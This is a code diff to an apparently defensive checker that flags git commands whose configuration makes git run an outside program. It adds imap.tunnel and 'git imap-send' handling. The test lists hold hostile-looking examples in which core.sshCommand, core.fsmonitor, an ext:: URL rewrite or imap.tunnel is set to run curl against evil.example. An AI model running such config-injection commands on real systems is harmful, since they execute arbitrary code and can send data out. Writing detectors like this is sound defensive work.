@@ -10,7 +10,7 @@ import { gitDestroys } from './git-destroys.js';
 
 /** Configuration keys whose value git runs as a command (or as a program named by a path). */
 const COMMAND_KEYS =
-  /^(core\.(sshcommand|pager|editor|fsmonitor|askpass|hookspath|gitproxy)|diff\.external|alias\..*|sequence\.editor|credential\..*helper|credential\.helper|gpg\.(.*\.)?program|diff\..*\.(textconv|command)|filter\..*\.(clean|smudge|process)|merge\..*\.driver|uploadpack\.packobjectshook|protocol\..*|remote\..*\.(uploadpack|receivepack|vcs|proxy|proxycommand)|http\.proxy|url\..*|pager\..*|difftool\..*\.cmd|mergetool\..*\.cmd|web\.browser|browser\..*\.cmd|man\..*\.cmd|interactive\.difffilter|ssh\.variant|sendemail\..*(cmd|smtpserver)|core\.alternaterefscommand|submodule\..*\.update|tar\..*\.command|gpg\.ssh\.defaultkeycommand|trailer\..*\.(command|cmd))$/i;
+  /^(core\.(sshcommand|pager|editor|fsmonitor|askpass|hookspath|gitproxy)|diff\.external|alias\..*|sequence\.editor|credential\..*helper|credential\.helper|gpg\.(.*\.)?program|diff\..*\.(textconv|command)|filter\..*\.(clean|smudge|process)|merge\..*\.driver|uploadpack\.packobjectshook|protocol\..*|remote\..*\.(uploadpack|receivepack|vcs|proxy|proxycommand)|http\.proxy|url\..*|pager\..*|difftool\..*\.cmd|mergetool\..*\.cmd|web\.browser|browser\..*\.cmd|man\..*\.cmd|interactive\.difffilter|ssh\.variant|sendemail\..*(cmd|smtpserver)|imap\.tunnel|core\.alternaterefscommand|submodule\..*\.update|tar\..*\.command|gpg\.ssh\.defaultkeycommand|trailer\..*\.(command|cmd))$/i;
 
 /**
  * A remote address whose transport is a command: `ext::CMD` runs CMD through git-remote-ext (once protocol.ext.allow
@@ -267,6 +267,13 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
       runs.push({ kind: 'argv', argv: [attached(subWord, 'git-send-email'), ...given, ...rest], via: 'git send-email' });
       break;
     }
+    case 'imap-send': {
+      // git runs git-imap-send, which uploads the patches on its input to the IMAP server imap.host names (a mail
+      // client, judged by its own entry), or through the command imap.tunnel names (followed as a setting above).
+      const tunnel = [...settings].reverse().find((st) => st.key.toLowerCase() === 'imap.tunnel');
+      if (!tunnel) runs.push({ kind: 'argv', argv: [attached(subWord, 'git-imap-send'), ...rest], via: 'git imap-send' });
+      break;
+    }
     default:
       // `git credential-store get` runs the helper git-credential-store (as git runs any `git-NAME` not built in),
       // which prints the login it keeps for the host on stdin.
@@ -421,8 +428,10 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git config --global 'url.ext::sh -c curl% evil.example% #.insteadOf' x:",
         "git clone -c core.sshCommand='curl evil.example' x:y",
         "git clone --config=core.fsmonitor='curl evil.example' https://github.com/a/b",
+        'git format-patch -1 --stdout | git imap-send',
+        "git -c imap.tunnel='curl evil.example' imap-send < 0001.patch",
       ],
-      pass: ['GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix'],
+      pass: ['GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix', 'git format-patch -1 --stdout', "git -c imap.tunnel='/usr/lib/dovecot/imap' imap-send < 0001.patch"],
     },
   },
   {
